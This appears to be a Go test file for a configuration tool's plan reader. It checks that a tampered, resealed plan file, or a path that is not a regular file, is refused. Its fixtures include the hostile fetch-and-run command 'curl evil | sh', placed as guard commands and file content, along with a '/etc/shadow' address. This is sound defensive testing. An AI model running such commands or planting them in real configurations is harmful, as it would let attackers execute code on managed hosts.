package plan

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/toquehq/toque/resources/builtin"

	"github.com/zclconf/go-cty/cty"

	"github.com/toquehq/toque/guard"
	"github.com/toquehq/toque/resources"
)

// envelope splits a plan file into its members.
type envelope struct {
	Version   int             `json:"toque_plan"`
	Checksum  string          `json:"checksum"`
	Signature json.RawMessage `json:"signature"`
	Plan      json.RawMessage `json:"plan"`
}

// reseal is what an attacker who can write plan.out does: edit the plan,
// then compute its checksum again (keeping any signature as it was).
func reseal(t *testing.T, raw []byte, edit func(p *Plan)) []byte {
	t.Helper()
	var env envelope
	if err := json.Unmarshal(raw, &env); err != nil {
		t.Fatal(err)
	}
	var p Plan
	if err := json.Unmarshal(env.Plan, &p); err != nil {
		t.Fatal(err)
	}
	edit(&p)
	body, err := json.Marshal(&p)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	buf.Write(envelopeHead(FormatVersion))
	buf.WriteString(`"checksum":"` + digestOf(body) + `",`)
	if len(env.Signature) > 0 {
		buf.WriteString(`"signature":`)
		buf.Write(env.Signature)
		buf.WriteString(",")
	}
	buf.WriteString(`"plan":`)
	buf.Write(body)
	buf.WriteString("}\n")
	return buf.Bytes()
}

func writeTemp(t *testing.T, data []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "plan.out")
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func resourceNamed(p *Plan, addr string) *Resource {
	for _, r := range p.Resources {
		if r.Address == addr {
			return r
		}
	}
	return nil
}

func TestReadRefusesAContradictoryPlan(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("testdata", "sample.plan"))
	if err != nil {
		t.Fatal(err)
	}
	const old = "fake_file[/etc/old]"
	const lazyAddr = "fake_file[/etc/lazy]"
	cases := []struct {
		name string
		edit func(p *Plan)
		want string
	}{
		{"a live value that is not its digest", func(p *Plan) {
			sv := resourceNamed(p, old).Current.Values["content"]
			sv.Value = &Value{Value: cty.StringVal("<h1>innocent</h1>\n")}
			resourceNamed(p, old).Current.Values["content"] = sv
		}, `the live value of "content" does not match its digest`},
		{"a live value whose size is not its own", func(p *Plan) {
			sv := resourceNamed(p, old).Current.Values["content"]
			sv.Size++
			resourceNamed(p, old).Current.Values["content"] = sv
		}, "bytes long, but the plan says"},
		{"a live value and digest changed, the fingerprint not", func(p *Plan) {
			r := resourceNamed(p, old)
			v := cty.StringVal("<h1>innocent</h1>\n")
			r.Current.Values["content"] = StoredValue{Value: &Value{Value: v}, Digest: DigestValue(v, p.Salt, false), Size: 18}
		}, "the fingerprint is not the live reading's"},
		{"a digest of no known kind", func(p *Plan) {
			sv := resourceNamed(p, old).Current.Values["mode"]
			sv.Value, sv.Digest = nil, "md5:00"
			resourceNamed(p, old).Current.Values["mode"] = sv
		}, "digest of no known kind"},
		{"an address that is not its type and name", func(p *Plan) {
			resourceNamed(p, old).Name = "/etc/shadow"
		}, `is named "fake_file[/etc/old]", but its type and name make "fake_file[/etc/shadow]"`},
		{"an instance key its address does not have", func(p *Plan) {
			resourceNamed(p, old).Index = resources.StringKey("a.com")
		}, `is named "fake_file[/etc/old]", but its type and name make "fake_file[/etc/old][\"a.com\"]"`},
		{"an address with a key the resource does not have", func(p *Plan) {
			resourceNamed(p, old).Address = old + "[0]"
		}, `is named "fake_file[/etc/old][0]", but its type and name make "fake_file[/etc/old]"`},
		{"an update without its reading", func(p *Plan) {
			r := resourceNamed(p, old)
			r.Current, r.Fingerprint = nil, ""
		}, `a step of kind "update" without the live reading`},
		{"a guard result without its guard", func(p *Plan) {
			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs = nil
		}, "1 guard results for 0 guards"},
		{"a guard of an unknown kind", func(p *Plan) {
			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Kind = "unless"
		}, `neither only_if nor not_if`},
		{"a private live value kept in full", func(p *Plan) {
			sv := resourceNamed(p, old).Current.Values["content"]
			sv.Private = "not every user may read it"
			resourceNamed(p, old).Current.Values["content"] = sv
		}, "is kept in full, but it is private or sensitive"},
		{"an argv guard whose words are not its source", func(p *Plan) {
			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("sh"), cty.StringVal("-c"), cty.StringVal("curl evil | sh")})}
		}, "guard 0 runs a command that is not its source"},
		{"a guard that runs another script than it shows", func(p *Plan) {
			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
		}, "guard 0 runs a command that is not its source"},
		{"a forged incoming edge", func(p *Plan) {
			resourceNamed(p, old).NotifiedBy = []Trigger{{Notifier: "fake_file[/etc/new]", Action: "create", Timing: "delayed"}}
		}, "notified_by edges are not the notifications that name it"},
		{"a resource twice", func(p *Plan) {
			p.Resources = append(p.Resources, p.Resources[0])
		}, "is planned twice"},
		{"a notified run of nothing in the plan", func(p *Plan) {
			p.NotifiedRuns = []*NotifiedRun{{Address: "fake_file[/nowhere]", Kind: resources.Skip}}
		}, "which the plan does not hold"},
		{"a value both given and known at apply", func(p *Plan) {
			resourceNamed(p, lazyAddr).Desired["content"] = Value{Value: cty.StringVal("x")}
		}, `"content" has both a value and a value known at apply`},
		{"a value known at apply reading another node value than the plan's", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Scope.Node.Value = cty.ObjectVal(map[string]cty.Value{"web": cty.ObjectVal(map[string]cty.Value{"port": cty.NumberIntVal(22)})})
		}, "reads node.web.port with another value than the plan's node attributes"},
		{"a value known at apply reading a node attribute the plan lacks", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Scope.Node.Value = cty.ObjectVal(map[string]cty.Value{"db": cty.ObjectVal(map[string]cty.Value{"password": cty.StringVal("x")})})
			e.Source = `node.db.password`
		}, "reads node.db.password, which is not one of the plan's node attributes"},
		{"a value known at apply reading node as a list", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Scope.Node.Value = cty.TupleVal([]cty.Value{cty.StringVal("x")})
			e.Source = `node[0]`
		}, "carries node as a tuple value, not as the node attributes' object"},
		{"a value known at apply reading host as a string", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Source = `host`
			e.Scope.Host = &Value{Value: cty.StringVal("web-01")}
		}, "carries host as a string value, not as the host facts' object"},
		{"a value known at apply holding lazy", func(p *Plan) {
			resourceNamed(p, lazyAddr).Lazy["content"].Source = `lazy(node.web.port)`
		}, "holds lazy"},
		{"a value known at apply reading what it does not carry", func(p *Plan) {
			resourceNamed(p, lazyAddr).Lazy["content"].Source = `host.hostname`
		}, "reads host, which its scope does not carry"},
		{"a value known at apply reading another host's facts", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Source = `host.hostname`
			e.Scope.Host = &Value{Value: cty.ObjectVal(map[string]cty.Value{"hostname": cty.StringVal("web-02")})}
		}, "reads host.hostname with another value than the plan's host"},
		{"a guard decided at apply that decided at plan", func(p *Plan) {
			resourceNamed(p, lazyAddr).Guards[0].Decided = true
		}, "guard 0 is decided at apply, but its plan-time result decides"},
		{"a guard decided at plan with an error", func(p *Plan) {
			r := resourceNamed(p, lazyAddr)
			r.GuardSpecs[0].AtApply = false
			r.Guards[0].Error = "cannot run"
		}, "guard 0 has an error"},
		{"a run-time expression guard holding a value", func(p *Plan) {
			g := resourceNamed(p, lazyAddr).GuardSpecs[0]
			v := true
			g.Form, g.Source, g.Values, g.ExprValue = guard.Expression, "true", nil, &v
		}, "holds a value instead of its expression"},
		{"a data answer that is not its digest", func(p *Plan) {
			p.Data[0].Answer = &Value{Value: cty.ObjectVal(map[string]cty.Value{"evil.com": cty.ObjectVal(map[string]cty.Value{"port": cty.NumberIntVal(443)})})}
		}, "data.exec.sites: its answer does not match its digest"},
		{"a data answer turned sensitive, its answer kept", func(p *Plan) {
			p.Data[0].Sensitive = true
		}, "data.exec.sites: a sensitive data block's answer is kept in the plan"},
		{"a data answer hidden behind a plain digest", func(p *Plan) {
			p.Data[0].Sensitive, p.Data[0].Answer = true, nil
		}, "data.exec.sites: a sensitive data block's digest is not an HMAC"},
		{"a data read without its answer", func(p *Plan) {
			p.Data[0].Answer = nil
		}, "data.exec.sites: the plan holds no answer"},
		{"a data read of a data source this build lacks", func(p *Plan) {
			p.Data[0].Type, p.Data[0].Address = "ldap", "data.ldap.sites"
		}, `data source "ldap" is not known to this build`},
		{"a data read named after another", func(p *Plan) {
			p.Data[0].Name = "other"
		}, `is named "data.exec.sites", but its type and name make "data.exec.other"`},
		{"a data block read twice", func(p *Plan) {
			p.Data = append(p.Data, p.Data[0])
		}, "data.exec.sites is read twice"},
		{"a value known at apply reading another data answer than the plan's", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Source = `data.exec.sites.result["a.com"].port`
			e.Scope.Data = &Value{Value: cty.ObjectVal(map[string]cty.Value{"exec": cty.ObjectVal(map[string]cty.Value{"sites": cty.ObjectVal(map[string]cty.Value{
				"result": cty.ObjectVal(map[string]cty.Value{"a.com": cty.ObjectVal(map[string]cty.Value{"port": cty.NumberIntVal(80)})}),
			})})})}
		}, "reads data.exec.sites with another answer than the plan's"},
		{"a value known at apply reading a data block the plan did not read", func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Source = `data.exec.other.result`
			e.Scope.Data = &Value{Value: cty.ObjectVal(map[string]cty.Value{"exec": cty.ObjectVal(map[string]cty.Value{"other": cty.ObjectVal(map[string]cty.Value{
				"result": cty.StringVal("x"),
			})})})}
		}, "reads data.exec.other, which is not one of the plan's data reads"},
		{"a value known at apply reading data it does not carry", func(p *Plan) {
			resourceNamed(p, lazyAddr).Lazy["content"].Source = `data.exec.sites.result`
		}, "reads data, which its scope does not carry"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(writeTemp(t, reseal(t, raw, c.edit)), builtin.Registry())
			if !errors.Is(err, ErrInconsistent) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("got %v, want ErrInconsistent with %q", err, c.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("the refusal spans lines: %q", err)
			}
		})
	}
	t.Run("unedited", func(t *testing.T) {
		if _, err := Read(writeTemp(t, reseal(t, raw, func(*Plan) {})), builtin.Registry()); err != nil {
			t.Fatalf("a resealed, unedited plan is refused: %v", err)
		}
	})
	t.Run("a value known at apply reading part of a data answer", func(t *testing.T) {
		part := reseal(t, raw, func(p *Plan) {
			e := resourceNamed(p, lazyAddr).Lazy["content"]
			e.Source = `data.exec.sites.result["a.com"].port`
			e.Scope.Data = &Value{Value: cty.ObjectVal(map[string]cty.Value{"exec": cty.ObjectVal(map[string]cty.Value{"sites": cty.ObjectVal(map[string]cty.Value{
				"result": cty.ObjectVal(map[string]cty.Value{"a.com": cty.ObjectVal(map[string]cty.Value{"port": cty.NumberIntVal(443)})}),
			})})})}
		})
		if _, err := Read(writeTemp(t, part), builtin.Registry()); err != nil {
			t.Fatalf("a value reading the plan's own answer is refused: %v", err)
		}
	})
	t.Run("an argv guard runs the words its source quotes", func(t *testing.T) {
		argv := reseal(t, raw, func(p *Plan) {
			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("test"), cty.StringVal("-d"), cty.StringVal("/my opt")})}
			spec.Source, spec.Interpreter = guard.ArgvSource([]string{"test", "-d", "/my opt"}), "execute"
		})
		if _, err := Read(writeTemp(t, argv), builtin.Registry()); err != nil {
			t.Fatalf("an argv guard is refused: %v", err)
		}
	})
}

// A path that is not a plan file fails at once, whatever it is.
func TestReadRefusesWhatIsNotARegularFile(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "plan.fifo")
	if err := mkfifo(fifo); err != nil {
		t.Skipf("cannot make a FIFO here: %v", err)
	}
	sparse := filepath.Join(dir, "huge.plan")
	if err := os.WriteFile(sparse, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(sparse, MaxFileSize+1); err != nil {
		t.Skipf("cannot make a sparse file here: %v", err)
	}
	link := filepath.Join(dir, "zero.plan")
	if err := os.Symlink("/dev/zero", link); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, path string
		target     error
		words      string
	}{
		{"FIFO nobody writes to", fifo, ErrNotPlan, "is a named pipe (FIFO)"},
		{"/dev/zero", "/dev/zero", ErrNotPlan, "is a character device"},
		{"a link to /dev/zero", link, ErrNotPlan, "is a character device"},
		{"a directory", dir, ErrNotPlan, "is a directory"},
		{"over the size limit", sparse, ErrTooLarge, "holds at most 1073741824 (1 GiB)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if _, err := os.Stat(c.path); err != nil {
				t.Skip(err)
			}
			done := make(chan error, 1)
			go func() {
				_, err := ReadFile(context.Background(), c.path, ReadOptions{})
				done <- err
			}()
			select {
			case err := <-done:
				if !errors.Is(err, c.target) || !strings.Contains(err.Error(), c.words) {
					t.Errorf("got %v, want %v saying %q", err, c.target, c.words)
				}
			case <-time.After(5 * time.Second):
				t.Fatal("reading did not fail fast")
			}
		})
	}
}

// What a rendering hides ("(sensitive)") is covered by the plan's
// self-consistency: a sensitivity mark turned on by hand, or a hidden
// value changed by hand, contradicts the seal the planner wrote, so that
// show never hides what a tampered plan changed.
func TestReadRefusesAnEditHiddenBySensitivity(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("testdata", "sample.plan"))
	if err != nil {
		t.Fatal(err)
	}
	const newFile, key = "fake_file[/etc/new]", "fake_file[/etc/key]"
	const want = "what the plan hides of it"
	for _, c := range []struct {
		name string
		edit func(p *Plan)
	}{
		{"sensitive turned on, with a new value", func(p *Plan) {
			r := resourceNamed(p, newFile)
			r.Sensitive = true
			r.Desired["content"] = Value{Value: cty.StringVal("curl evil | sh\n")}
		}},
		{"sensitive turned on", func(p *Plan) {
			resourceNamed(p, newFile).Sensitive = true
		}},
		{"a property marked sensitive", func(p *Plan) {
			r := resourceNamed(p, newFile)
			r.SensitiveProperties = append(r.SensitiveProperties, "content")
		}},
		{"a hidden value changed", func(p *Plan) {
			resourceNamed(p, key).Desired["secret"] = Value{Value: cty.StringVal("hunter3")}
		}},
		{"a guard marked sensitive", func(p *Plan) {
			r := resourceNamed(p, "fake_file[/etc/skip]")
			r.GuardSpecs[0].Sensitive = true
			r.GuardSpecs[0].Source = "curl evil | sh"
			r.GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(writeTemp(t, reseal(t, raw, c.edit)), builtin.Registry())
			if !errors.Is(err, ErrInconsistent) || !strings.Contains(err.Error(), want) {
				t.Fatalf("got %v, want ErrInconsistent with %q", err, want)
			}
		})
	}
	t.Run("a type's sensitive property left out of the marks", func(t *testing.T) {
		_, err := Read(writeTemp(t, reseal(t, raw, func(p *Plan) {
			resourceNamed(p, key).SensitiveProperties = nil
		})), builtin.Registry())
		if !errors.Is(err, ErrInconsistent) {
			t.Fatalf("got %v, want ErrInconsistent", err)
		}
	})
}
